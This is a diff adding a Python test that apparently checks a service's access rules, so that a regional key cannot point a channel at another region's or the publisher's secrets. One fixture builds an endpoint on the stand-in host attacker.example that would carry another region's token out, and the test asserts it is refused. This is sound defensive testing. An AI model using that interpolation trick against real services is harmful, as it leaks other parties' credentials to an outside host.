@@ -97,3 +97,42 @@ async def test_national_key_is_not_a_registry_key(router: ServiceUnderTest) -> N
         r = await c.get("/v1/channels")
     assert r.status_code == 403
     assert "admin, province or regency key" in r.json()["error"]["message"]
+
+
+async def test_a_regional_key_names_only_its_own_regions_secrets(
+    router: ServiceUnderTest,
+) -> None:
+    """Secrets are one pool: a regional key pointing a channel at its own server with another
+    region's token (or the publisher's own key) would have the publisher send it there."""
+    stolen = channel("73.03") | {"endpoint": "https://attacker.example/h?k={secret:R3171_FB_TOKEN}"}
+    own_kind = channel("73.03") | {
+        "kind": "facebook", "endpoint": "facebook://1048576?token={secret:R7303_FB_TOKEN}",
+    }  # fmt: skip
+    province_names_regency = channel("73.06") | {"secret": "R7306_HOOK"}
+    async with client(router, "regency:73.03") as c:
+        refused = await c.put("/v1/channels/steal", json=stolen)
+        token_key = await c.put(
+            "/v1/channels/steal2", json=channel("73.03") | {"secret": "TOKEN_KEY"}
+        )
+        neighbour = await c.put(
+            "/v1/channels/steal3", json=channel("73.03") | {"secret": "R7306_X"}
+        )
+        allowed = await c.put("/v1/channels/bantaeng-fb", json=own_kind)
+    async with client(router, "province:73") as c:
+        province = await c.put("/v1/channels/gowa-hook", json=province_names_regency)
+        other_province = await c.put(
+            "/v1/channels/gowa-x", json=channel("73.06") | {"secret": "R31_HOOK"}
+        )
+    async with client(router) as admin:
+        admin_any = await admin.put("/v1/channels/pusat-x", json=channel("ID") | {"secret": "ANY"})
+    assert refused.status_code == 403, refused.text
+    [detail] = refused.json()["error"]["details"]
+    assert detail["field"] == "endpoint"
+    assert "'R3171_FB_TOKEN'" in detail["message"]
+    assert "must start with R7303_" in detail["message"]
+    assert (token_key.status_code, neighbour.status_code) == (403, 403)
+    assert token_key.json()["error"]["details"][0]["field"] == "secret"
+    assert allowed.status_code == 201, allowed.text
+    assert province.status_code == 201, province.text
+    assert other_province.status_code == 403
+    assert admin_any.status_code == 201, admin_any.text
